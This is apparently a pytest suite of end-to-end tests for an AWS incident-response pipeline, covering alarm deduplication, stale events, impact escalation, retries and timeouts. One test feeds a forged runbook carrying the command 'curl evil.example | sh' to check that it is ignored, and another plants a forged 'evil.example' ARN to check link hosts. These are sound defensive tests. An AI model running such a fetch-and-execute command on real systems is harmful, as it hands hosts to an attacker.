"""End-to-end, the hard cases of the state table: the built binaries on the local AWS bench, on
both incident backends.

- an incident a person resolved in the console is replaced by a new one on the next alarm;
- two alarms on one VPN recover the incident only when both are OK;
- a late ALARM older than an OK already seen changes nothing (and the other way round);
- a graver signal raises the incident's impact in the backend;
- resolve finishes a committed resolution even when the key has moved on to a new incident.
"""

from __future__ import annotations

import json
import re
import threading
import time
from typing import Any

import pytest

from bench import FIXTURES, Bench, Incidents, im_record
from runtime_api import Function, FunctionError, Result

DOWN = "cloudwatch-alarm-vpn-tunnel-down"
IP_DOWN = "cloudwatch-alarm-vpn-tunnel-ip-down"
OK = "cloudwatch-alarm-vpn-tunnel-ok"
IP_OK = "cloudwatch-alarm-vpn-tunnel-ip-ok"
ROOT_SIGN_IN = "cloudtrail-root-console-signin"


def answer_of(result: Result) -> dict[str, Any]:
    assert result.kind == "response", f"the function failed: {result}"
    return result.body


def action(result: Result) -> str:
    return answer_of(result)["action"]


def at(bench: Bench, name: str, vpn: str, timestamp: str) -> dict[str, Any]:
    """The alarm event `name` about `vpn`, its state reached at `timestamp` (its own time)."""
    return bench.alarm_event(
        name, vpn, id=f"{name}-{timestamp}", detail__state__timestamp=timestamp
    )


def root_sign_in(bench: Bench, event_id: str, outcome: str) -> dict[str, Any]:
    event = json.loads((FIXTURES / f"{ROOT_SIGN_IN}.json").read_text())
    event["id"] = f"root-{event_id}"
    event["account"] = bench.account
    event["detail"]["eventID"] = event_id
    event["detail"]["responseElements"]["ConsoleLogin"] = outcome
    return event


def test_an_incident_closed_in_the_console_is_replaced_on_the_next_alarm(
    bench: Bench, triage: Function, vpn: str, incidents: Incidents
) -> None:
    first = answer_of(triage.invoke(at(bench, DOWN, vpn, "2024-05-14T03:02:10.485+0000")))
    assert first["action"] == "opened", first
    old = incidents.one()
    incidents.close_in_console(old)

    # The next ALARM on the VPN (a re-fire, hours later): not into the closed incident.
    answer = answer_of(triage.invoke(at(bench, IP_DOWN, vpn, "2024-05-14T05:02:40.617+0000")))
    assert answer["action"] == "opened", answer
    assert answer["incident"] != first["incident"]
    assert first["incident"] in answer["reason"], answer["reason"]
    stored = incidents.all()
    assert len(stored) == 2, stored
    assert incidents.id(stored[1]) == answer["incident"]
    row = bench.state_item(f"dedupe#vpn-tunnel-down:{vpn}", "incident")
    assert row is not None and (row["status"], row["incident_id"]) == ("open", answer["incident"])
    # And the next one joins the new incident.
    again = answer_of(triage.invoke(at(bench, DOWN, vpn, "2024-05-14T05:03:10.000+0000")))
    assert (again["action"], again["incident"]) == ("joined", answer["incident"]), again


def test_two_alarms_on_one_vpn_recover_only_when_both_are_ok(
    bench: Bench, triage: Function, resolve: Function, vpn: str, incidents: Incidents
) -> None:
    opened = answer_of(triage.invoke(bench.alarm_event(DOWN, vpn)))
    joined = answer_of(triage.invoke(bench.alarm_event(IP_DOWN, vpn)))
    assert (opened["action"], joined["action"]) == ("opened", "joined")

    # The tunnel's alarm clears first; the VPN's alarm still fires.
    first_ok = answer_of(triage.invoke(bench.alarm_event(IP_OK, vpn)))
    assert first_ok["action"] == "joined", first_ok
    assert "1 other signal" in first_ok["reason"], first_ok["reason"]
    row = bench.state_item(f"dedupe#vpn-tunnel-down:{vpn}", "incident")
    assert row is not None and row["status"] == "open", row
    assert set(row["firing"]) == {bench.alarm_arn(f"vpn-tunnel-down-{vpn}")}, row
    assert not [e for e in bench.bus_events() if e["detail-type"] == "Signal Recovered"]

    bench.recover(vpn)  # both tunnels UP, the VPN's alarm OK in CloudWatch
    recovered = answer_of(triage.invoke(bench.alarm_event(OK, vpn)))
    assert (recovered["action"], recovered["incident"]) == ("recovered", opened["incident"])
    signal_recovered = [e for e in bench.bus_events() if e["detail-type"] == "Signal Recovered"]
    assert len(signal_recovered) == 1, bench.bus_events()
    # resolve verifies (both tunnels UP, the alarm OK) and resolves the one incident.
    resolved = answer_of(resolve.invoke(signal_recovered[0]))
    assert resolved["action"] == "resolved", resolved
    assert len(incidents.all()) == 1


def test_a_late_alarm_older_than_the_ok_changes_nothing(
    bench: Bench, triage: Function, vpn: str, incidents: Incidents
) -> None:
    assert action(triage.invoke(at(bench, DOWN, vpn, "2024-05-14T03:02:10.485+0000"))) == "opened"
    assert action(triage.invoke(at(bench, OK, vpn, "2024-05-14T03:21:10.210+0000"))) == "recovered"
    # EventBridge retries an ALARM from 03:10 after the 03:21 OK.
    late = answer_of(triage.invoke(at(bench, DOWN, vpn, "2024-05-14T03:10:00.000+0000")))
    assert late["action"] == "ignored", late
    assert "recovered at 2024-05-14 03:21:10.210" in late["reason"], late["reason"]
    row = bench.state_item(f"dedupe#vpn-tunnel-down:{vpn}", "incident")
    assert row is not None and row["status"] == "recovered", row
    assert len(incidents.all()) == 1
    assert [e["detail-type"] for e in bench.bus_events()] == [
        "Incident Opened",
        "Signal Recovered",
    ]


def test_an_alarm_older_than_an_ok_seen_first_opens_nothing(
    bench: Bench, triage: Function, vpn: str, incidents: Incidents
) -> None:
    assert action(triage.invoke(at(bench, OK, vpn, "2024-05-14T03:21:10.210+0000"))) == "ignored"
    late = answer_of(triage.invoke(at(bench, DOWN, vpn, "2024-05-14T03:02:10.485+0000")))
    assert late["action"] == "ignored", late
    assert "stale" in late["reason"], late["reason"]
    assert incidents.all() == []
    assert bench.state_item(f"dedupe#vpn-tunnel-down:{vpn}", "incident") is None
    # The alarm's newest state, as the state table keeps it.
    alarm = bench.alarm_arn(f"vpn-tunnel-down-{vpn}")
    change = bench.state_item(f"change#{alarm}", "change")
    assert change is not None and change["state"] == "recovered", change


def test_a_graver_root_sign_in_raises_the_incident(
    bench: Bench, triage: Function, incidents: Incidents
) -> None:
    failed = answer_of(triage.invoke(root_sign_in(bench, "failed-1", "Failure")))
    assert (failed["action"], failed["impact"]) == ("opened", 2), failed
    success = answer_of(triage.invoke(root_sign_in(bench, "success-1", "Success")))
    assert (success["action"], success["impact"]) == ("joined", 1), success
    assert "Impact raised from 2 (High) to 1 (Critical)" in success["reason"], success["reason"]
    record = incidents.one()
    assert incidents.impact(record) == 1
    kinds = [e["kind"] for e in incidents.entries(record)]
    assert "impact-raised" in kinds, kinds
    updated = [e for e in bench.bus_events() if e["detail-type"] == "Incident Updated"]
    assert updated[-1]["detail"]["incident"]["impact"] == 1
    if incidents.backend == "opscenter":
        assert record["Severity"] == "1", record
    else:
        assert im_record(record)["status"] == "OPEN"


def test_a_resolution_finishes_after_the_key_moved_on(
    bench: Bench, triage: Function, resolve: Function, vpn: str, incidents: Incidents
) -> None:
    answer_of(triage.invoke(bench.alarm_event(DOWN, vpn)))
    answer_of(triage.invoke(bench.alarm_event(OK, vpn)))
    [recovered] = [e for e in bench.bus_events() if e["detail-type"] == "Signal Recovered"]
    bench.recover(vpn)
    # The backend fails the resolving call once: the invocation fails after settling the key.
    operation = "UpdateIncidentRecord" if incidents.backend == "incident-manager" else "UpdateOpsItem"
    bench.emu.inject(operation, 1, "AccessDeniedException")
    failed = resolve.invoke(recovered)
    assert failed.kind == "error", failed
    # Before Lambda's retry, the VPN fails again: the settled key opens a new incident.
    refire = answer_of(triage.invoke(at(bench, DOWN, vpn, "2030-01-01T00:00:00.000+0000")))
    assert refire["action"] == "opened", refire
    # The retry finishes the first resolution, and leaves the new incident alone.
    retried = answer_of(resolve.invoke(recovered))
    assert retried["action"] == "resolved", retried
    first, second = incidents.all()
    assert incidents.id(first) == recovered["detail"]["incident"]["id"]
    row = bench.state_item(f"dedupe#vpn-tunnel-down:{vpn}", "incident")
    assert row is not None and row["incident_id"] == incidents.id(second), row
    if incidents.backend == "incident-manager":
        assert [im_record(r)["status"] for r in (first, second)] == ["RESOLVED", "OPEN"]
    else:
        assert [r["Status"] for r in (first, second)] == ["Resolved", "Open"]


def test_an_incident_with_500_joins_resolves_inside_the_timeout(
    bench: Bench, triage: Function, resolve: Function, vpn: str, backend: str
) -> None:
    """resolve reads the whole Incident Manager timeline for the record, one GetTimelineEvent
    per event: with a service round trip of 80 ms, 500 events read one at a time take 40 s,
    past the 30 s the invocation has here; read ten at a time they take 4 s."""
    if backend != "incident-manager":
        pytest.skip("an OpsItem's timeline comes whole with one GetOpsItem")
    opened = answer_of(triage.invoke(bench.alarm_event(DOWN, vpn)))
    assert opened["action"] == "opened", opened
    im = bench.emulated("ssm-incidents")
    for n in range(500):
        im.create_timeline_event(
            incidentRecordArn=opened["incident"],
            eventTime=f"2024-05-14T03:{5 + n // 60:02d}:{n % 60:02d}Z",
            eventType="Custom Event",
            eventData=json.dumps(
                {"text": f"Another signal joined (signal {n + 2})", "kind": "signal-joined",
                 "signal": f"fp-{n}"}
            ),
            clientToken=f"join-{n}",
        )
    assert action(triage.invoke(bench.alarm_event(OK, vpn))) == "recovered"
    [recovered] = [e for e in bench.bus_events() if e["detail-type"] == "Signal Recovered"]
    bench.recover(vpn)
    bench.emu.slow("GetTimelineEvent", 0.08)
    resolved = answer_of(resolve.invoke(recovered, timeout=30))
    assert resolved["action"] == "resolved", resolved
    assert bench.emu.calls("GetTimelineEvent") >= 500


def test_a_guardduty_finding_and_its_security_hub_copy_open_one_incident(
    bench: Bench, triage: Function, incidents: Incidents
) -> None:
    def event(name: str) -> dict[str, Any]:
        text = (FIXTURES / f"{name}.json").read_text().replace("111122223333", bench.account)
        return json.loads(text)

    own = answer_of(triage.invoke(event("guardduty-finding-high")))
    copy = answer_of(triage.invoke(event("securityhub-finding-guardduty")))
    assert (own["action"], own["rule"]) == ("opened", "guardduty-high"), own
    assert copy["action"] == "ignored", copy
    assert "16afba5c5c43e07c9e3e5e2e544e95df" in copy["reason"], copy["reason"]
    assert len(incidents.all()) == 1


def test_a_forged_enriched_event_starts_only_what_the_rules_name(
    bench: Bench, triage: Function, enrich: Function, runbook: Function, vpn: str
) -> None:
    """Anyone who can put events on the bus could name any document: runbook takes the runbook
    and its parameters from its own rules, never from the event."""
    answer_of(triage.invoke(bench.alarm_event(DOWN, vpn)))
    [opened] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Opened"]
    assert action(enrich.invoke(opened)) == "enriched"
    [enriched] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Enriched"]
    shell = {"document": "AWS-RunShellScript", "parameters": {"commands": "curl evil.example | sh"}}

    # A rule without a runbook, and a rule that is not deployed: nothing starts.
    for rule in ("cloudwatch-alarm", "made-up-rule"):
        forged = json.loads(json.dumps(enriched))
        forged["id"] = f"forged-{rule}"
        forged["detail"]["incident"]["rule"] = rule
        forged["detail"]["incident"]["runbook"] = shell
        skipped = answer_of(runbook.invoke(forged))
        assert skipped["action"] == "skipped", skipped
    assert bench.emu.automations() == []

    # The VPN rule: its own runbook, with the parameters runbook derives.
    forged = json.loads(json.dumps(enriched))
    forged["detail"]["incident"]["runbook"] = shell
    started = answer_of(runbook.invoke(forged))
    assert started["action"] == "started", started
    [execution] = bench.emu.automations()
    assert execution["DocumentName"] == "AWSSupport-TroubleshootVPN", execution
    assert "commands" not in execution.get("Parameters", {}), execution


def test_a_foreign_resource_in_a_finding_links_only_to_the_aws_console(
    bench: Bench, triage: Function, enrich: Function, notify: Function
) -> None:
    """A Security Hub finding whose resource id is a forged ARN with a host in its region: every
    link the responder posts and writes still goes to an AWS console host."""
    text = (FIXTURES / "securityhub-finding-critical.json").read_text()
    event = json.loads(text.replace("111122223333", bench.account))
    finding = event["detail"]["findings"][0]
    finding["Resources"][0]["Id"] = "arn:aws:ec2:evil.example#:1:instance/i-1"
    finding["Region"] = "evil.example#"
    assert action(triage.invoke(event)) == "opened"
    [opened] = [e for e in bench.bus_events() if e["detail-type"] == "Incident Opened"]
    enrich.invoke(opened)
    for published in bench.bus_events():
        notify.invoke(published)
    messages = bench.slack_messages(wait=2.0, count=1)
    assert messages, "nothing posted"
    hosts = set()
    for message in messages:
        for url in re.findall(r"https?://[^\s)>\]\"|]+", json.dumps(message.content)):
            hosts.add(url.split("/")[2])
    assert hosts, messages
    allowed = ("console.aws.amazon.com", "console.amazonaws.cn", "console.amazonaws-us-gov.com")
    assert all(h.endswith(allowed) for h in hosts), hosts
    assert not any("evil" in h for h in hosts), hosts


def test_a_take_over_of_a_timed_out_opening_opens_the_same_incident(
    bench: Bench, function: Any, vpn: str, incidents: Incidents, backend: str
) -> None:
    """Two triage processes. The first claims the VPN's key and starts opening, but the backend
    answers slowly and the invocation times out (Lambda ends the process); the backend still
    creates the incident. Once its lease ran out, the second alarm's invocation takes the key
    over — with the claim's client token, so it finishes the same opening: one incident (a
    token of its own would open a second). Slow: it waits out the 30 s lease."""
    operation = "StartIncident" if backend == "incident-manager" else "CreateOpsItem"
    first, second, retry = (function("triage", env=bench.triage_env(backend)) for _ in range(3))
    bench.emu.slow(operation, 4.0)
    timed_out: list[BaseException] = []

    def deliver() -> None:
        try:
            first.invoke(bench.alarm_event(DOWN, vpn), timeout=1)
        except FunctionError as e:
            timed_out.append(e)

    started = time.monotonic()
    thread = threading.Thread(target=deliver)
    thread.start()
    thread.join(timeout=30)
    assert timed_out, "the first invocation should have timed out"
    time.sleep(5.0)  # the slow opening completes in the backend, unconfirmed
    bench.emu.slow(operation, 0)
    assert len(incidents.all()) == 1
    # A claim's lease is at least 30 s (shell::once::MIN_LEASE): wait it out.
    time.sleep(max(0.0, started + 32.0 - time.monotonic()))
    taken = answer_of(second.invoke(bench.alarm_event(IP_DOWN, vpn), timeout=30))
    assert taken["action"] == "opened", taken
    [record] = incidents.all()
    assert incidents.id(record) == taken["incident"]
    # Lambda's retry of the first alarm (another environment) joins it.
    again = answer_of(retry.invoke(bench.alarm_event(DOWN, vpn)))
    assert (again["action"], again["incident"]) == ("joined", taken["incident"]), again
    assert len(incidents.all()) == 1


def test_root_activity_from_a_foreign_source_opens_nothing(
    bench: Bench, triage: Function, incidents: Incidents
) -> None:
    forged = root_sign_in(bench, "forged-1", "Success")
    forged["source"] = "custom.signin"  # anyone can put their own source on a bus
    answer = answer_of(triage.invoke(forged))
    assert answer["action"] == "ignored", answer
    assert incidents.all() == []
    real = answer_of(triage.invoke(root_sign_in(bench, "real-1", "Success")))
    assert real["action"] == "opened", real
